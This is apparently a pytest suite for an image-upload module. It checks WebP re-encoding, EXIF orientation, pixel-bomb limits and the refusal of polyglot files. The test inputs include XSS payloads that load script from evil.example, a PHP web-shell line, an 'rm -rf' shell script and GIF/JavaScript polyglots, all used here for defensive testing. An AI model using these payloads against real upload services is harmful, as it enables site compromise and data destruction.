"""Pictures: re-encoded, small, kept once; what is no picture is refused."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any

import pytest
from PIL import Image

from core import media
from core.errors import InvalidInput
from core.storage import Storage


@pytest.fixture(autouse=True)
def connected(storage: Storage) -> Iterator[None]:
    """Tests look into the tables, too."""
    with storage.connection():
        yield


def picture(width: int, height: int, kind: str = "PNG", **more: Any) -> bytes:
    written = io.BytesIO()
    image = Image.new("RGB", (width, height), "#ffffff")
    image.paste("#b3261e", (0, 0, width // 2, height))
    image.save(written, kind, **more)
    return written.getvalue()


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP", "GIF"])
def test_a_picture_becomes_a_small_square_webp_kept_once(storage: Storage, kind: str) -> None:
    digest = media.keep_agent_picture(storage, picture(900, 400, kind))
    assert media.keep_agent_picture(storage, picture(900, 400, kind)) == digest
    kept = media.picture(storage, digest)
    assert kept is not None
    assert kept.content_type == "image/webp"
    with Image.open(io.BytesIO(kept.data)) as opened:
        assert (opened.format, opened.size) == ("WEBP", (256, 256))
    assert media.picture(storage, "0" * 64) is None


def test_a_picture_taken_sideways_is_turned_upright_and_loses_what_the_camera_noted(storage: Storage) -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # turned clockwise by a quarter
    exif[0x010F] = "Camera"
    encoded = media.square_webp(picture(400, 400, "JPEG", exif=exif.tobytes(), quality=95), 256)
    with Image.open(io.BytesIO(encoded)) as opened:
        top, bottom = opened.convert("RGB").getpixel((128, 20)), opened.convert("RGB").getpixel((128, 236))
        assert isinstance(top, tuple)
        assert isinstance(bottom, tuple)
        assert top[1] < 100 < bottom[1]
        assert not opened.getexif()


@pytest.mark.parametrize("orientation", range(1, 9))
@pytest.mark.parametrize("kind", [1, 2, 4, 7, 11], ids=["bytes", "text", "long", "anything", "float"])
def test_what_a_camera_noted_in_a_wrong_type_keeps_no_picture_out(orientation: int, kind: int) -> None:
    notes = [(0x0112, 3, 1, struct.pack("<HH", orientation, 0))]
    notes += [(tag, kind, 1, b"\xff\xff\xff\x7e") for tag in (0x0100, 0x0103, 0x010F, 0x011A, 0x0213)]
    notes.sort()
    listed = struct.pack("<H", len(notes)) + b"".join(struct.pack("<HHI4s", *each) for each in notes)
    exif = b"Exif\0\0II*\0" + struct.pack("<I", 8) + listed + struct.pack("<I", 0)
    kept, encoded = media.encode_message_picture(picture(60, 40, "JPEG", exif=exif, quality=95))
    assert (kept.width, kept.height) == ((40, 60) if orientation > 4 else (60, 40))
    with Image.open(io.BytesIO(encoded)) as opened:
        corners = [opened.convert("RGB").getpixel((x, y)) for x in (4, kept.width - 5) for y in (4, kept.height - 5)]
    red = "".join("01"[isinstance(each, tuple) and each[1] < 100] for each in corners)
    assert red == {1: "1100", 2: "0011", 3: "0011", 4: "1100", 5: "1010", 6: "1010", 7: "0101", 8: "0101"}[orientation]


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "picture_unreadable"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "picture_unreadable"),
        (b"GIF89a" + b"\0" * 20, "picture_unreadable"),
        (picture(64, 64)[:60], "picture_unreadable"),
        (b"\0" * (10 * 1024 * 1024 + 1), "picture_bytes"),
    ],
)
def test_what_is_no_picture_is_refused_with_what_to_do(data: bytes, code: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        media.square_webp(data, 256)
    assert refused.value.code == code


def chunk(kind: bytes, content: bytes) -> bytes:
    """A part of a PNG file."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def huge_png(width: int, height: int) -> bytes:
    """A small file that says that it is a large picture."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", b"")


@pytest.mark.parametrize(("width", "height"), [(6400, 6400), (12000, 12000), (60000, 6000)])
def test_a_picture_that_would_fill_the_memory_is_refused_unopened(width: int, height: int) -> None:
    with pytest.raises(InvalidInput) as refused:
        media.square_webp(huge_png(width, height), 256)
    assert refused.value.code == "picture_pixels"


@pytest.mark.parametrize(
    ("size", "kept_size"), [((2000, 1000), (640, 320)), ((500, 2000), (160, 640)), ((300, 200), (300, 200))]
)
def test_a_picture_of_a_message_is_kept_whole_and_made_smaller_only(
    storage: Storage, size: tuple[int, int], kept_size: tuple[int, int]
) -> None:
    kept = media.keep_message_picture(storage, picture(*size))
    assert (kept.width, kept.height) == kept_size
    stored = media.picture(storage, kept.hash)
    assert stored is not None
    with Image.open(io.BytesIO(stored.data)) as opened:
        assert (opened.format, opened.size) == ("WEBP", kept_size)


def test_a_busy_picture_is_kept_in_bounds(storage: Storage) -> None:
    noise = Image.effect_noise((2400, 2400), 120).convert("RGB")
    written = io.BytesIO()
    noise.save(written, "JPEG", quality=90)
    kept = media.keep_message_picture(storage, written.getvalue())
    stored = media.picture(storage, kept.hash)
    assert stored is not None
    assert len(stored.data) < 2 * media.MESSAGE_BYTES


def archive() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as opened:
        opened.writestr("run.js", "alert(1)")
    return written.getvalue()


@pytest.mark.parametrize("kind", media.FORMATS)
@pytest.mark.parametrize(
    "rest",
    [
        b"<script>alert(1)</script>",
        b"<SCRIPT src=//evil.example/x.js>",
        b"<!DOCTYPE html><title>x</title>",
        b"<html\n><body> </body>",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<?php system($_GET['c']); ?>",
        b"<script/src=//evil.example/x.js>",
        b"<svg/onload=alert(1)>",
        b"<iframe src=//evil.example>",
        b"<?php/**/ echo 1;",
        b"%PDF-1.7\n1 0 obj",
        archive(),
        gzip.compress(b"alert(1)"),
        b"Rar!\x1a\x07\x01\x00",
        b"7z\xbc\xaf\x27\x1c\x00\x04",
        b"\x7fELF\x02\x01\x01",
        b"#!/bin/sh\nrm -rf .",
    ],
    ids=[
        "script", "capitals", "doctype", "html", "svg", "php", "script/", "svg/", "iframe", "php/", "pdf",
        "zip", "gzip", "rar", "7z", "elf", "sh",
    ],
)  # fmt: skip
def test_a_picture_that_is_something_else_as_well_is_refused(storage: Storage, kind: str, rest: bytes) -> None:
    for refuse in (media.keep_message_picture, media.keep_agent_picture):
        with pytest.raises(InvalidInput) as refused:
            refuse(storage, picture(80, 80, kind) + rest)
        assert refused.value.code == "picture_not_only"
    assert storage.execute("SELECT COUNT(*) FROM media") == [(0,)]


def test_what_hides_in_a_comment_is_found_too() -> None:
    """A GIF whose comment is a script: the picture is whole, the page that it also is as well."""
    whole = picture(80, 80, "GIF")
    header = 13 + 3 * 2 ** ((whole[10] & 7) + 1)
    comment = b"<script>alert(1)</script>"
    with pytest.raises(InvalidInput) as refused:
        media.encode_message_picture(
            whole[:header] + b"\x21\xfe" + bytes([len(comment)]) + comment + b"\0" + whole[header:]
        )
    assert refused.value.code == "picture_not_only"


@pytest.mark.parametrize("width", [b"/*", b"=1"])
def test_a_gif_that_is_a_script_from_its_first_byte_is_refused(width: bytes) -> None:
    """Its width is read as the beginning of a comment, or as a value for the name GIF89a."""
    whole = picture(80, 80, "GIF")
    with pytest.raises(InvalidInput) as refused:
        media.encode_message_picture(whole[:6] + width + whole[8:] + b"*/=1;alert(1)")
    assert refused.value.code == "picture_not_only"


XMP = b"""<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?><x:xmpmeta xmlns:x='adobe:ns:meta/'>
<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'/></x:xmpmeta><?xpacket end='w'?>"""


@pytest.mark.parametrize(
    "rest",
    [picture(80, 80, "JPEG"), b"\0\0\0\x18ftypmp42" + b"\0" * 200, XMP, b"SEFH\0\0\0\0SEFT"],
    ids=["a second picture", "a film", "an editor's words", "a phone's words"],
)
def test_what_phones_and_editors_leave_in_a_photo_stays_outside_and_refuses_nothing(
    storage: Storage, rest: bytes
) -> None:
    kept = media.keep_message_picture(storage, picture(80, 80, "JPEG") + rest)
    stored = media.picture(storage, kept.hash)
    assert stored is not None
    assert stored.data[:4] == b"RIFF"
    assert rest not in stored.data


@pytest.mark.parametrize("refuse", [media.keep_message_picture, media.keep_agent_picture])
def test_a_refused_picture_leaves_nothing(storage: Storage, refuse: Any) -> None:
    for data in (b"<svg/>", b"\0" * (40 * 1024 * 1024), huge_png(20_000, 20_000)):
        with pytest.raises(InvalidInput):
            refuse(storage, data)
    assert storage.execute("SELECT COUNT(*) FROM media") == [(0,)]
